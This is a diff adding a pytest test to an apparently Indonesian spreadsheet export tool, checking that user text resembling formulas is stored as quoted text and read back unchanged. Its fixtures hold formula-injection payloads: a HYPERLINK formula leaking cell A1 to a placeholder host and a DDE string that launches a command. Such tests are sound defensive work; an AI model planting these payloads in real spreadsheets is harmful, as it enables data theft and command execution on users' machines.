@@ -1,4 +1,5 @@
 import io
+import re
 import zipfile
 
 import pytest
@@ -182,3 +183,33 @@ def test_a_workbook_without_our_sheets_lists_each_missing_sheet():
     Workbook().save(keluaran)
     pesan = _pesan(_baca(keluaran.getvalue()))
     assert len([p for p in pesan if p.endswith("Sheet tidak ditemukan.")]) == 1 + len(excel.TABEL)
+
+
+_RUMUS_APP = re.compile(r"=[A-Z]+\d+(\+[A-Z]+\d+)?|=SUM\([A-Z]+\d+:[A-Z]+\d+\)")
+RUMUS_PENGGUNA = '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")'
+
+
+def test_the_export_stores_user_text_as_text_never_as_a_formula_and_reads_it_back_unchanged():
+    data = data_kecil()
+    for kunci in ("dasar_pembentukan", "tugas", "aspek_strategis", "alasan_tanpa_standar"):
+        data["uraian"][kunci] = RUMUS_PENGGUNA
+    data["landasan_hukum"] = [RUMUS_PENGGUNA, "+cmd|' /C calc'!A0", "-1", "@SUM(A1)"]
+    data["pegawai_asn"][0]["jabatan"] = RUMUS_PENGGUNA
+    data["pegawai_non_pns"][0]["jabatan"] = RUMUS_PENGGUNA
+    isi = _tulis(data)
+
+    wb = load_workbook(io.BytesIO(isi))
+    sel = [c for ws in wb.worksheets for baris in ws.iter_rows() for c in baris if c.value is not None]
+    rumus = [c for c in sel if c.data_type == "f"]
+    # The only formulas are the workbook's own: row totals (=B2+C2) and column sums (=SUM(C2:C3)).
+    assert rumus
+    assert all(_RUMUS_APP.fullmatch(c.value) for c in rumus), [c.value for c in rumus]
+    teks_pengguna = [c for c in sel if c.value in (RUMUS_PENGGUNA, "+cmd|' /C calc'!A0", "-1", "@SUM(A1)")]
+    assert len(teks_pengguna) == 4 + 4 + 2
+    assert all(c.data_type == "s" and c.quotePrefix for c in teks_pengguna)
+
+    hasil = _baca(isi)
+    assert hasil.kesalahan == []
+    assert hasil.data["uraian"]["tugas"] == RUMUS_PENGGUNA
+    assert hasil.data["landasan_hukum"][:2] == [RUMUS_PENGGUNA, "+cmd|' /C calc'!A0"]
+    assert hasil.data["pegawai_asn"][0]["jabatan"] == RUMUS_PENGGUNA
